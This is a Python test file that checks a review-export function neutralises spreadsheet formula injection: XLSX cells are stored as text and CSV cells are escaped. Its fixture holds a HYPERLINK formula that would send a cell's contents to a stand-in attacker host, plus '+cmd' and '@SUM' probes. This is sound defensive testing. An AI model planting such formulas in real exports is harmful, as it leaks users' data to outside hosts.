"""Review-time exports: XLSX text is text (never a formula), CSV escaped, BOM by default."""

from __future__ import annotations

from pathlib import Path

from openpyxl import load_workbook

from scholardesk.sources.reviews.export import write_table

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ROWS = [[EVIL, -12, 3.5, "@SUM(1)"], ["+cmd", None, -0.5, "fine"]]


def test_xlsx_cells_are_never_formulas_and_numbers_stay_numbers(tmp_path: Path) -> None:
    out = write_table(tmp_path / "a.xlsx", ["title", "days", "x", "note"], ROWS)
    ws = load_workbook(out).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert ws["A2"].value == EVIL and ws["A2"].data_type == "s"  # the text itself, as text
    assert ws["B2"].value == -12 and ws["B2"].data_type == "n"
    assert ws["C3"].value == -0.5 and ws["C3"].data_type == "n"


def test_csv_is_escaped_with_a_bom_by_default_and_without_on_request(tmp_path: Path) -> None:
    out = write_table(tmp_path / "a.csv", ["title", "days", "x", "note"], ROWS)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    lines = raw.decode("utf-8-sig").splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(") and lines[1].endswith(",-12,3.5,'@SUM(1)")
    assert lines[2] == "'+cmd,,-0.5,fine"
    plain = write_table(tmp_path / "b.csv", ["title"], [["x"]], bom=False)
    assert plain.read_bytes() == b"title\r\nx\r\n"
